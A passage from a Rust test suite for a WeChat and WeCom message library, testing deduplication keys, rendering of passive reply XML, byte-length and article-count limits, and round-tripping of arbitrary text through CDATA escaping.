        assert!(key.is_ascii() && key.len() < 100, "{key}");
        for (_, e) in m.doc().root().descendants() {
            let _ = (e.name(), e.text());
        }
    }
}

// ---------------------------------------------------------------- De-duplication keys

#[test]
fn dedup_look_alikes_get_distinct_keys() {
    let mut keys: HashMap<String, PathBuf> = HashMap::new();
    let files = xml_files("dedup/distinct");
    assert!(files.len() >= 80, "{}", files.len());
    for path in files {
        let m = Message::parse(&std::fs::read_to_string(&path).unwrap()).unwrap();
        let key = m.dedup_key();
        if let Some(other) = keys.insert(key.clone(), path.clone()) {
            panic!(
                "{} and {} share the key {key}",
                path.display(),
                other.display()
            );
        }
    }
}

#[test]
fn dedup_true_duplicates_share_a_key() {
    let mut pairs: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for path in xml_files("dedup/same") {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let group = name.split('.').next().unwrap().to_owned();
        let m = Message::parse(&std::fs::read_to_string(&path).unwrap())
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        pairs.entry(group).or_default().push(m.dedup_key());
    }
    assert!(pairs.len() >= 7);
    let mut all = std::collections::HashSet::new();
    for (group, keys) in &pairs {
        assert_eq!(keys.len(), 2, "{group}");
        assert_eq!(keys[0], keys[1], "{group}");
        assert!(
            all.insert(keys[0].clone()),
            "{group} collides with another group"
        );
    }
}

#[test]
fn dedup_keys_are_stable_and_labelled() {
    // Pinned value (recomputed independently from the documented encoding: SHA-256 over
    // length-prefixed "msg", then (depth, name, text) of ToUserName, AgentID, FromUserName,
    // MsgId). A key that changes between releases lets retries through after an upgrade.
    let m = parse("wecom/vector_b_text.xml");
    assert_eq!(m.dedup_key(), "msg:text:bb99b1147a657a9b53db4cd96c3ab39b");
    let m = parse("oa/event_click.xml");
    assert!(m.dedup_key().starts_with("event:CLICK:"));
    let m = parse("wecom/change_contact_create_user.xml");
    assert!(m.dedup_key().starts_with("sys:change_contact:"));
    let m = parse("suite/suite_ticket.xml");
    assert!(m.dedup_key().starts_with("suite:suite_ticket:"));
    let m = parse("oa/unknown_event.xml");
    let key = m.dedup_key();
    assert!(
        key.starts_with("unknown:") && key.len() == "unknown:".len() + 32,
        "{key}"
    );

    // Every kind fixture is distinct from every other.
    let mut keys = std::collections::HashSet::new();
    for dir in ["oa", "wecom", "suite"] {
        for path in xml_files(dir) {
            let m = Message::parse(&std::fs::read_to_string(&path).unwrap()).unwrap();
            assert!(keys.insert(m.dedup_key()), "{}", path.display());
        }
    }
}

#[test]
fn dedup_message_key_ignores_non_identifying_fields() {
    // A retried message is identified by its MsgId, even if a proxy re-serialised it.
    let a = Message::parse("<xml><ToUserName>gh_a</ToUserName><FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>x</Content><MsgId>42</MsgId></xml>").unwrap();
    let b = Message::parse("<xml><ToUserName>gh_a</ToUserName><FromUserName>o1</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>x</Content><MsgId>42</MsgId><Extra>y</Extra></xml>").unwrap();
    assert_eq!(a.dedup_key(), b.dedup_key());
}

// ---------------------------------------------------------------- Passive replies

fn inbound_oa() -> Message {
    parse("oa/text.xml")
}

fn inbound_wecom() -> Message {
    parse("wecom/vector_b_text.xml")
}

#[test]
fn reply_text_round_trip_swaps_addresses() {
    let m = inbound_oa();
    let to = ReplyTo::answering(&m, 1700000000);
    assert_eq!(to.to_user_name, "oia2TjuEGTNoeX76QEjQNrcURxG8");
    assert_eq!(to.from_user_name, "gh_7f083739789a");
    let xml = Reply::Text {
        content: "你好 ]]> 😀",
    }
    .render(Platform::OfficialAccount, &to)
    .unwrap();
    let back = Message::parse(&xml).unwrap();
    let h = back.header();
    assert_eq!(h.to_user_name, Some("oia2TjuEGTNoeX76QEjQNrcURxG8"));
    assert_eq!(h.from_user_name, Some("gh_7f083739789a"));
    assert_eq!(h.create_time, Some(1700000000));
    let Inbound::Text(t) = back.kind() else {
        panic!()
    };
    assert_eq!(t.content, "你好 ]]> 😀");
}

#[test]
fn reply_every_type_round_trips() {
    let m = inbound_oa();
    let to = ReplyTo::answering(&m, 1);
    let arts = [Article {
        title: "标题]]>",
        description: "描述",
        pic_url: "https://x/p.png",
        url: "https://x/?a=1&b=2",
    }];
    let card = json!({
        "card_type": "button_interaction",
        "main_title": {"title": "已处理", "desc": "a]]>b"},
        "task_id": "bridge-42",
        "button_list": [{"text": "同意", "style": 1, "key": "approve"}, {"text": "驳回", "style": 2, "key": "reject"}],
        "horizontal_content_list": [{"keyname": "申请人", "value": "张三"}],
        "nothing": null
    });
    let cases: Vec<(Platform, Reply<'_>, Value)> = vec![
        (
            Platform::OfficialAccount,
            Reply::Image { media_id: "M1" },
            json!({"MsgType": "image", "Image": {"MediaId": "M1"}}),
        ),
        (
            Platform::WeCom,
            Reply::Voice { media_id: "M2" },
            json!({"MsgType": "voice", "Voice": {"MediaId": "M2"}}),
        ),
        (
            Platform::OfficialAccount,
            Reply::Video {
                media_id: "M3",
                title: Some("t"),
                description: None,
            },
            json!({"MsgType": "video", "Video": {"MediaId": "M3", "Title": "t"}}),
        ),
        (
            Platform::OfficialAccount,
            Reply::Music(Music {
                title: Some("歌"),
                description: Some("d"),
                music_url: Some("http://m/1.mp3"),
                hq_music_url: Some("http://m/1hq.mp3"),
                thumb_media_id: "T1",
            }),
            json!({"MsgType": "music", "Music": {"Title": "歌", "Description": "d",
                   "MusicUrl": "http://m/1.mp3", "HQMusicUrl": "http://m/1hq.mp3", "ThumbMediaId": "T1"}}),
        ),
        (
            Platform::OfficialAccount,
            Reply::News(&arts),
            json!({"MsgType": "news", "ArticleCount": "1", "Articles": {"item": [
                {"Title": "标题]]>", "Description": "描述", "PicUrl": "https://x/p.png", "Url": "https://x/?a=1&b=2"}]}}),
        ),
        (
            Platform::OfficialAccount,
            Reply::TransferCustomerService {
                kf_account: Some("kf1@test"),
            },
            json!({"MsgType": "transfer_customer_service", "TransInfo": {"KfAccount": "kf1@test"}}),
        ),
        (
            Platform::OfficialAccount,
            Reply::TransferCustomerService { kf_account: None },
            json!({"MsgType": "transfer_customer_service"}),
        ),
        (
            Platform::WeCom,
            Reply::UpdateButton {
                replace_name: "已同意",
            },
            json!({"MsgType": "update_button", "Button": {"ReplaceName": "已同意"}}),
        ),
        (
            Platform::WeCom,
            Reply::UpdateTemplateCard { card: &card },
            json!({"MsgType": "update_template_card", "TemplateCard": {
                "CardType": "button_interaction",
                "MainTitle": {"Title": "已处理", "Desc": "a]]>b"},
                "TaskId": "bridge-42",
                "ButtonList": [{"Text": "同意", "Style": "1", "Key": "approve"},
                               {"Text": "驳回", "Style": "2", "Key": "reject"}],
                "HorizontalContentList": {"KeyName": "申请人", "Value": "张三"}
            }}),
        ),
    ];
    for (platform, reply, want) in cases {
        let xml = reply
            .render(platform, &to)
            .unwrap_or_else(|e| panic!("{reply:?}: {e}"));
        let back = Message::parse(&xml).unwrap_or_else(|e| panic!("{xml}: {e}"));
        let mut got = back.to_json();
        let obj = got.as_object_mut().unwrap();
        assert_eq!(obj.remove("ToUserName").unwrap(), to.to_user_name);
        assert_eq!(obj.remove("FromUserName").unwrap(), to.from_user_name);
        assert_eq!(obj.remove("CreateTime").unwrap(), "1");
        assert_eq!(got, want, "{xml}");
    }
}

#[test]
fn reply_limits_and_platform_rules() {
    let m = inbound_oa();
    let to = ReplyTo::answering(&m, 1);
    let ok = "a".repeat(2048);
    assert!(
        Reply::Text { content: &ok }
            .render(Platform::OfficialAccount, &to)
            .is_ok()
    );
    let long = "a".repeat(2049);
    assert_eq!(
        Reply::Text { content: &long }
            .render(Platform::OfficialAccount, &to)
            .unwrap_err(),
        ReplyError::TooLong {
            field: "Content",
            max: 2048,
            actual: 2049
        }
    );
    // 683 CJK characters = 2049 bytes: the limit is in bytes, not characters.
    let cjk = "桥".repeat(683);
    assert!(matches!(
        Reply::Text { content: &cjk }.render(Platform::WeCom, &to),
        Err(ReplyError::TooLong { actual: 2049, .. })
    ));
    // Truncating with wx::text makes it fit, on a code-point boundary.
    let cut = wx::text::truncate_bytes(&cjk, 2048);
    assert_eq!(cut.len(), 2046);
    assert!(
        Reply::Text { content: cut }
            .render(Platform::WeCom, &to)
            .is_ok()
    );

    assert_eq!(
        Reply::Text { content: "" }
            .render(Platform::OfficialAccount, &to)
            .unwrap_err(),
        ReplyError::Empty { field: "Content" }
    );
    let nobody = ReplyTo::new("", "gh_1", 1);
    assert_eq!(
        Reply::Text { content: "x" }
            .render(Platform::OfficialAccount, &nobody)
            .unwrap_err(),
        ReplyError::Empty {
            field: "ToUserName"
        }
    );

    let art = Article {
        title: "t",
        ..Article::default()
    };
    let two = [art, art];
    assert_eq!(
        Reply::News(&two)
            .render(Platform::OfficialAccount, &to)
            .unwrap_err(),
        ReplyError::ArticleCount { count: 2, max: 1 }
    );
    let legacy = ReplyLimits {
        max_articles: 8,
        ..ReplyLimits::OFFICIAL_ACCOUNT
    };
    let xml = Reply::News(&two)
        .render_with(Platform::OfficialAccount, &legacy, &to)
        .unwrap();
    assert!(xml.contains("<ArticleCount>2</ArticleCount>"));
    let eight = [art; 8];
    assert!(Reply::News(&eight).render(Platform::WeCom, &to).is_ok());
    let nine = [art; 9];
    assert_eq!(
        Reply::News(&nine).render(Platform::WeCom, &to).unwrap_err(),
        ReplyError::ArticleCount { count: 9, max: 8 }
    );
    assert!(Reply::News(&[]).render(Platform::WeCom, &to).is_err());
    let long_title = "标".repeat(43); // 129 bytes > WeCom's 128
    let arts = [Article {
        title: &long_title,
        ..art
    }];
    assert!(matches!(
        Reply::News(&arts).render(Platform::WeCom, &to),
        Err(ReplyError::TooLong {
            field: "Title",
            max: 128,
            ..
        })
    ));

    assert!(matches!(
        Reply::UpdateButton { replace_name: "x" }.render(Platform::OfficialAccount, &to),
        Err(ReplyError::Unsupported {
            msg_type: "update_button",
            ..
        })
    ));
    let music = Reply::Music(Music {
        thumb_media_id: "t",
        ..Music::default()
    });
    assert!(matches!(
        music.render(Platform::WeCom, &to),
        Err(ReplyError::Unsupported { .. })
    ));
    let not_object = json!([1]);
    assert!(matches!(
        Reply::UpdateTemplateCard { card: &not_object }.render(Platform::WeCom, &to),
        Err(ReplyError::InvalidCard(_))
    ));
    let bad_key = json!({"a b": 1});
    assert!(matches!(
        Reply::UpdateTemplateCard { card: &bad_key }.render(Platform::WeCom, &to),
        Err(ReplyError::InvalidCard(_))
    ));
}

#[test]
fn reply_wecom_answers_the_member() {
    let m = inbound_wecom();
    let xml = Reply::Text { content: "收到" }
        .render(Platform::WeCom, &ReplyTo::answering(&m, 1476422780))
        .unwrap();
    assert_eq!(
        xml,
        "<xml><ToUserName><![CDATA[ChenJiaShun]]></ToUserName>\
         <FromUserName><![CDATA[ww1436e0e65a779aee]]></FromUserName>\
         <CreateTime>1476422780</CreateTime><MsgType><![CDATA[text]]></MsgType>\
         <Content><![CDATA[收到]]></Content></xml>"
    );
    assert_eq!(wx::message::SUCCESS, "success");
    assert_eq!(wx::message::EMPTY, "");
}

/// Text XML can carry: everything except C0 controls other than tab/LF/CR, U+FFFE, U+FFFF.
fn xml_clean(s: &str) -> String {
    s.chars()
        .filter(|&c| {
            matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn reply_round_trip_any_text(
        pre in "\\PC{0,30}",
        mid in prop_oneof![Just("]]>"), Just("]]]]>"), Just("中文"), Just("😀👍🏽"), Just("<a href=\"x\">&</a>"), Just("\r\n"), Just("\u{1}\u{FFFF}")],
        post in any::<String>().prop_map(|s| s.chars().take(30).collect::<String>()),
        user in "[a-zA-Z0-9_-]{1,28}",
        time in any::<i64>(),
    ) {
        let content = format!("{pre}{mid}{post}");
        let expected = xml_clean(&content);
        prop_assume!(!content.is_empty() && content.len() <= 2048);
        let to = ReplyTo::new(&user, "gh_7f083739789a", time);
        let xml = Reply::Text { content: &content }.render(Platform::OfficialAccount, &to).unwrap();
        let back = Message::parse(&xml).unwrap();
        let Inbound::Text(t) = back.kind() else { panic!("{xml}") };
        prop_assert_eq!(t.content, expected.as_str());
        prop_assert_eq!(back.header().to_user_name, Some(user.as_str()));
        prop_assert_eq!(back.header().create_time, Some(time));

        // The same text in every string slot of a news article.
        let arts = [Article { title: &content, description: &content, pic_url: &content, url: &content }];
        let xml = Reply::News(&arts).render(Platform::OfficialAccount, &to).unwrap();
        let doc = XmlDoc::parse(&xml).unwrap();
        let item = doc.root().find(&["Articles", "item"]).unwrap();
        for f in ["Title", "Description", "PicUrl", "Url"] {
            prop_assert_eq!(item.get(f), Some(expected.as_str()));
        }
    }
}
